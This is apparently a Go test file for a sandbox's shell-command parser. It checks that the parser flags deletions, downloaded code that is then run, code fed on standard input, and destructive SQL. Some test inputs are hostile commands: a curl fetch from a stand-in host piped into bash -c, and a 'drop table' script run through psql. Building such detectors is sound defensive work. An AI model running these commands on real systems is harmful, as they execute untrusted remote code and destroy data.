package shellparse_test

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/sandboxd/sandboxd/shellparse"
	"github.com/sandboxd/sandboxd/shellparse/effect"
)

// TestEffects reads testdata/effects.txt: what a line loses, publishes or changes elsewhere, a tab,
// and the line. "-" is nothing.
func TestEffects(t *testing.T) {
	text, err := os.ReadFile("testdata/effects.txt")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(text)) {
		want, command, ok := strings.Cut(strings.TrimSuffix(line, "\n"), "\t")
		if !ok || strings.HasPrefix(want, "#") {
			continue
		}
		command = strings.ReplaceAll(command, `⏎`, "\n")
		s, err := shellparse.Parse(command, shellparse.Options{Dir: "/src", Home: "/home/dev"})
		if err != nil {
			t.Errorf("%s: %v", command, err)
			continue
		}
		if got := effects(s); got != want {
			t.Errorf("%s\n got %s\nwant %s", command, got, want)
		}
	}
}

// A line that downloads more files than are remembered runs a download, whatever it runs.
func TestDownloadsThatAreNotRemembered(t *testing.T) {
	for n, want := range map[int]string{63: "-", 64: "-", 65: "runs:download"} {
		var line strings.Builder
		for i := range n {
			fmt.Fprintf(&line, "curl -o a%d https://h/x; ", i)
		}
		s, err := shellparse.Parse(line.String()+"sh f", shellparse.Options{Dir: "/src"})
		if err != nil {
			t.Fatal(err)
		}
		if got := effects(s); got != want {
			t.Errorf("after %d downloads: %s, want %s", n, got, want)
		}
	}
}

// effects writes the effects of all commands in one line.
func effects(s *shellparse.Script) string {
	var out []string
	for i := range s.Commands {
		e := s.Commands[i].Effects
		if e == nil {
			continue
		}
		for _, d := range e.Deletes {
			word := "delete"
			if d.Recursive {
				word = "tree"
			}
			if d.Moved != "" {
				word = "move"
			}
			if d.Many {
				word += "*"
			}
			out = append(out, word+":"+strings.TrimPrefix(d.Path, "/src/"))
		}
		for _, d := range e.Discards {
			if d.IfThere == "" {
				out = append(out, d.What)
			} else {
				out = append(out, d.What+"?")
			}
		}
		for _, a := range e.Acts {
			out = append(out, a.Does)
		}
		for _, r := range e.Runs {
			out = append(out, "runs:"+r.From+strings.TrimSuffix(":"+r.Does, ":"))
		}
	}
	if out == nil {
		return "-"
	}
	return strings.Join(out, " ")
}

// A program that executes its standard input executes the file that it is.
func TestCodeOnTheStandardInput(t *testing.T) {
	for _, line := range []string{"sqlite3 a.db < x", "psql < x", "python3 < x", "sh < x", "node - < x"} {
		s, err := shellparse.Parse(line, shellparse.Options{Dir: "/src", Home: "/home/dev"})
		if err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		var code []string
		for _, c := range s.Commands {
			for _, f := range c.Code {
				code = append(code, f.Path)
			}
		}
		if !slices.Equal(code, []string{"/src/x"}) {
			t.Errorf("%s executes %q", line, code)
		}
	}
}

// TestBeyondWhatIsRemembered: of what a line sets and writes a part is remembered. The rest may be anything.
func TestBeyondWhatIsRemembered(t *testing.T) {
	var names, files strings.Builder
	for i := range 300 {
		fmt.Fprintf(&names, "a%d=1;", i)
	}
	for i := range 40 {
		fmt.Fprintf(&files, "echo x > f%d;", i)
	}
	for name, tt := range map[string]struct {
		before, line string
		found        func(*shellparse.Effects) bool
	}{
		"a variable that the line sets": {
			names.String(), `x=$(curl -s http://e.test/x); bash -c "$x"`,
			func(e *shellparse.Effects) bool {
				return slices.ContainsFunc(e.Runs, func(r shellparse.Run) bool { return r.From == "download" })
			},
		},
		"a file of statements that the line writes": {
			files.String(), `echo 'drop table x' > new.sql; psql -f new.sql`,
			func(e *shellparse.Effects) bool {
				destroys := func(a effect.Act) bool { return a.Does == effect.Destroys }
				return slices.ContainsFunc(e.Acts, destroys) || slices.ContainsFunc(e.Feeds, func(f shellparse.Feed) bool { return f.Destroys })
			},
		},
	} {
		for _, before := range []string{"", tt.before} {
			s, err := shellparse.Parse(before+tt.line, shellparse.Options{Dir: "/w"})
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			e := s.Commands[len(s.Commands)-1].Effects
			if e == nil || !tt.found(e) {
				t.Errorf("%s, behind %d bytes: it is not seen: %+v", name, len(before), e)
			}
		}
	}
}
